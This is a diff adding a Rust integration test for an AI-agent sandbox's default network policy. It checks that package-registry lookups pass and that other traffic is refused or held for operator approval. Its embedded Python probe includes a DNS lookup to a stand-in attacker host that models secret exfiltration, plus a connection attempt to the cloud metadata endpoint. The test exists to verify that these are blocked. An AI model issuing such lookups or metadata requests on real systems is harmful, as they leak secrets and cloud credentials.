@@ -276,3 +276,131 @@ fn queries_to_another_resolver_go_to_the_stub() {
 fn names_decide_under_the_ptrace_backend() {
     scenario(None, "execve:\n  backend: ptrace\n", true);
 }
+
+/// The shipped agent-default, unchanged: a registry's name resolves and
+/// its address is allowed (rule `package-registries`); a name no rule
+/// names is refused by the stub and never reaches the upstream (with an
+/// `approve` default the lookup itself would be the leak); cloud metadata
+/// is denied; an address no rule names (an IP literal, a datagram to
+/// loopback: local dev servers are TCP only) waits for an operator and,
+/// unanswered, fails with EACCES. One event each.
+fn shipped_agent_default(uid: Option<u32>) {
+    if !require_root("shipped_agent_default") {
+        return;
+    }
+    // TEST-NET-1: not reachable, and not loopback (which agent-default
+    // allows over TCP whatever the name).
+    let registry = Ipv4Addr::new(192, 0, 2, 7);
+    let up = Upstream::start(".org", registry);
+    let stub = unique_loopback();
+    let config = format!(
+        "egress:\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\nexecve:\n  approval_timeout: 2s\n",
+        up.port
+    );
+    let mut s = Sandbox::with_config(agentsh_tests::sandbox::AGENT_DEFAULT, uid, &config);
+    std::fs::write(
+        s.host_path("/etc/resolv.conf"),
+        format!("nameserver {stub}\noptions timeout:5 attempts:1\n"),
+    )
+    .unwrap();
+    // A non-blocking connect answers at once: EINPROGRESS (or the
+    // network's own refusal) when allowed, EACCES when refused.
+    let out = ok(
+        &mut s,
+        "python3 -c '
+import socket
+def nb(ip, port):
+    s = socket.socket()
+    s.setblocking(False)
+    return s.connect_ex((ip, port))
+ip = socket.getaddrinfo(\"pypi.org\", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
+print(\"registry\", ip, nb(ip, 443))
+try:
+    socket.getaddrinfo(\"s3cr3t.attacker.org\", 443, socket.AF_INET, socket.SOCK_STREAM)
+    print(\"leak resolved\")
+except socket.gaierror:
+    print(\"leak refused\")
+print(\"metadata\", nb(\"169.254.169.254\", 80))
+print(\"literal\", nb(\"192.0.2.8\", 443))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b\"x\", (\"127.0.0.1\", 9))
+    print(\"udp sent\")
+except OSError as e:
+    print(\"udp\", e.errno)
+'",
+    );
+    let lines: Vec<&str> = out.lines().collect();
+    let field = |k: &str| -> String {
+        lines
+            .iter()
+            .find(|l| l.starts_with(k))
+            .unwrap_or_else(|| panic!("{k} missing: {out}"))
+            .to_string()
+    };
+    let reg = field("registry ");
+    assert!(reg.starts_with(&format!("registry {registry} ")), "{out}");
+    assert_ne!(
+        reg.rsplit(' ').next(),
+        Some(libc::EACCES.to_string().as_str()),
+        "the registry's address was refused: {out}"
+    );
+    assert_eq!(field("leak "), "leak refused", "{out}");
+    let eacces = libc::EACCES.to_string();
+    assert_eq!(field("metadata "), format!("metadata {eacces}"), "{out}");
+    assert_eq!(field("literal "), format!("literal {eacces}"), "{out}");
+    assert_eq!(field("udp "), format!("udp {eacces}"), "{out}");
+    // The refused name never left: the upstream was asked for pypi.org only.
+    let asked = up.asked();
+    assert!(asked.iter().any(|n| n == "pypi.org"), "{asked:?}");
+    assert!(!asked.iter().any(|n| n.contains("attacker")), "{asked:?}");
+
+    let dns = events_of(&s, "dns");
+    assert!(
+        dns.iter()
+            .any(|e| e["name"] == "s3cr3t.attacker.org" && e["decision"] == "deny"),
+        "{dns:?}"
+    );
+    let connects = events_of(&s, "connect");
+    let one = |ip: &str, port: u16| -> Vec<&Value> {
+        connects
+            .iter()
+            .filter(|e| e["ip"] == ip && e["port"] == port)
+            .collect()
+    };
+    let r = one(&registry.to_string(), 443);
+    assert!(
+        r.len() == 1
+            && r[0]["decision"] == "allow"
+            && r[0]["rule"] == "package-registries"
+            && r[0]["host"] == "pypi.org",
+        "{connects:?}"
+    );
+    let m = one("169.254.169.254", 80);
+    assert!(
+        m.len() == 1 && m[0]["decision"] == "deny" && m[0]["rule"] == "no-cloud-metadata",
+        "{connects:?}"
+    );
+    for (ip, port, protocol) in [("192.0.2.8", 443, "tcp"), ("127.0.0.1", 9, "udp")] {
+        let e = one(ip, port);
+        assert!(
+            e.len() == 1
+                && e[0]["protocol"] == protocol
+                && e[0]["rule"] == "default"
+                && e[0]["decision"] == "approve"
+                && e[0]["approval_outcome"] == "timeout"
+                && e[0]["effective_action"] == "deny",
+            "{ip}:{port}: {connects:?}"
+        );
+    }
+}
+
+#[test]
+fn shipped_agent_default_allows_registries_by_name_and_asks_for_the_rest() {
+    shipped_agent_default(None);
+}
+
+#[test]
+fn shipped_agent_default_allows_registries_by_name_as_nobody() {
+    shipped_agent_default(Some(NOBODY));
+}
